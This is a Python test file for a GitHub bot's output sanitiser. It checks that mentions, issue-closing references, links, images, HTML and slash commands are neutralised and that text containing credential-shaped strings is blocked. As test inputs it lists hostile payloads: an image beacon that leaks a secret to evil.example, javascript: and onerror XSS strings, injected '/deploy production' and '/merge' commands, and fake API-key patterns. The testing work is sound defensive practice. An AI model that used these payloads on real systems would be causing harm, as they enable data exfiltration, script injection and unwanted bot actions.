"""Text of models and repositories cannot act in what Prism writes."""

import base64
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.github.errors import SecretInText
from app.messages.outgoing import (
    check_secrets,
    code,
    fenced,
    inline,
    title,
)

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
PIECES = [
    "@", "#", "`", "``", "<", ">", "!", "[", "]", "(", ")", "|", "*", "_", "\\", "/", "-", ".", ":",
    "a", "b/c", "1", " ", "\n", "https://x.y", "www.x.y", "Fixes #1", "@a/b", "/prism rerun",
    "GH-1", "gh-1", "Gh", "<b>", "<!--", "-->", "&lt;", "data:x", "\u200b", "\u202e", "```", "~~~",
    "![a](b)", "[a]: b",
]  # fmt: skip
HOSTILE = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)

CASES = {
    "team": "@org/team please look",
    "closing in lower case": "fixes gh-77, Closes Gh-78",
    "foreign closing": "Fixes #1, closes other/repo#2, resolves GH-3",
    "closing by address": "fixes https://github.com/o/r/issues/4",
    "image beacon": "![x](https://evil.example/p.png?q=secret)",
    "link": "[click](https://evil.example) https://evil.example www.evil.example",
    "script link": "[a](javascript:alert(1)) javascript:alert(1)",
    "HTML": "<img src=x onerror=alert(1)> <form action=//evil.example><b>",
    "comment": "a <!-- hidden --> b",
    "command": "/prism rerun",
    "other bot": "/deploy production\n/merge",
    "fence": "```\nnot closed",
    "table": "a | b | c\n|---|",
    "heading": "# big\n## bigger",
    "mail": "write to someone@example.org",
}


def plain(markdown: str) -> tuple[str, set[str]]:
    """What GitHub's mention and reference filters see (text outside code), and token types."""
    texts, kinds = [], set()
    for token in MARKDOWN.parse(markdown):
        kinds.add(token.type)
        children = token.children or []
        kinds |= {child.type for child in children}
        shown = [child.content if child.type == "text" else " ` " for child in children]
        texts.append("".join(shown))
    return "\n".join(texts), kinds


def assert_harmless(markdown: str) -> None:
    """Nothing in it is a link, image, HTML, mention, reference or command."""
    text, kinds = plain(markdown)
    assert not kinds & {
        "link_open",
        "image",
        "html_inline",
        "html_block",
        "heading_open",
        "table_open",
    }
    assert not re.search(r"@\w|#\d|\bGH-\d|://|www\.", text, re.IGNORECASE)
    assert not re.search(r"^\s*/[a-z]", text, re.MULTILINE)


@pytest.mark.parametrize("text", CASES.values(), ids=CASES)
def test_hostile_text_does_nothing(text):
    """Mentions, references, links, images, HTML and commands are gone or code."""
    assert_harmless(inline(text))


@given(HOSTILE)
def test_no_text_acts(text):
    """Whatever the pieces, one line stays one line and nothing in it acts."""
    line = inline(text)
    assert "\n" not in line
    assert_harmless(line)


@given(HOSTILE)
def test_no_text_leaves_its_cell(text):
    """In a table row it is exactly one cell."""
    rows = MARKDOWN.parse(f"| a | b |\n|---|---|\n| {inline(text)} | {code(text)} |\n")
    cells = [token for token in rows if token.type in ("td_open", "th_open")]
    assert len(cells) == 4


@given(HOSTILE)
def test_no_text_closes_its_fence(text):
    """A code block holds all of the text and ends where we end it."""
    (token,) = MARKDOWN.parse(fenced(text))
    assert token.type == "fence"


@given(HOSTILE)
def test_code_is_only_code(text):
    """Inline code is one code span or nothing."""
    shown = code(text)
    if shown:
        (paragraph,) = [t for t in MARKDOWN.parse(shown) if t.type == "inline"]
        assert [child.type for child in paragraph.children] == ["code_inline"]


@given(HOSTILE, st.integers(20, 100))
def test_titles_are_short_and_dead(text, limit):
    """A title has no mention, reference or line end, and keeps the limit."""
    shown = title(text, limit)
    assert len(shown) <= limit
    assert not re.search(r"@\w|#\d|\bGH-\d|://|\n|`", shown, re.IGNORECASE)


@pytest.mark.parametrize("word", ["GH-77", "gh-77", "Gh-77", "gH`-`77", "gh@-77", "G/h-#77"])
def test_no_spelling_of_a_reference_closes_an_issue(word):
    """GitHub reads `gh-77` in any case, in a title, a commit's subject and a body."""
    shown = title(f"Fixes {word} and more")
    assert not re.search(r"gh-\d|#\d", shown, re.IGNORECASE)
    assert_harmless(inline(f"fixes {word}, closes {word}"))


@pytest.mark.parametrize(
    "text",
    ["Keep `func.retry.statistics` in step", "a_b and c*d", "x < 1 & y > 2", "50 % – naïve 日本"],
)
def test_ordinary_text_reads_as_it_was(text):
    """What people and models normally write is shown unchanged, code as code."""
    rendered = MARKDOWN.render(inline(text))
    for old, new in (("<code>", "`"), ("</code>", "`"), ("<p>", ""), ("</p>\n", "")):
        rendered = rendered.replace(old, new)
    assert rendered.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == text


def test_long_text_is_cut():
    """The limit is about the original's characters, and a cut is visible."""
    assert inline("word " * 500, 50).endswith("…")
    assert len(inline("x" * 500, 50)) == 50
    assert len(fenced("x" * 20_000)) < 8100


SECRETS = {
    "GitHub": "ghp_" + "a1B2" * 9,
    "new installation token": "ghs_123456_" + "eyJhbGciOi.JIUzI1Ni_Is-InR5" * 18,
    "Anthropic": "sk-ant-api03-" + "Ab1_" * 20,
    "AWS": "AKIA" + "Q7ZK3M5N2P4R6T7V",
    "private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
    "base64": base64.b64encode(b"ghp_" + b"a1B2" * 9).decode(),
}


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
def test_the_shape_of_a_key_blocks_the_text(secret):
    """A text with a key in it is not sent, and the error does not repeat the key."""
    with pytest.raises(SecretInText) as caught:
        check_secrets(f"look: {secret} !")
    assert secret[4:] not in str(caught.value)


@pytest.mark.parametrize("change", [lambda s: s, lambda s: s[::-1], "\n".join])
def test_the_servers_own_secrets_block_the_text(change):
    """Known secrets are found as they are, reversed and spread over lines."""
    secret = "correct-horse-battery"
    with pytest.raises(SecretInText):
        check_secrets(f"a {change(secret)} b", (secret,))


def test_ordinary_text_is_not_blocked():
    """Hashes, commits and short settings are no secrets."""
    text = f"sha256:{'ab' * 32} at {'1' * 40}, key = 'x'"
    assert check_secrets(text, ("", "abc")) == text


@pytest.mark.parametrize(
    "unit", ["`", "@", "a`", "[", "<", "/a ", "://", "x@", "#1", "\\", "``a` "]
)
def test_long_hostile_text_is_quick(unit):
    """Before it is cut, a text of 100 KB costs a few milliseconds."""
    text = unit * (100_000 // len(unit))
    started = time.process_time()
    inline(text)
    code(text)
    title(text)
    assert time.process_time() - started < 0.5
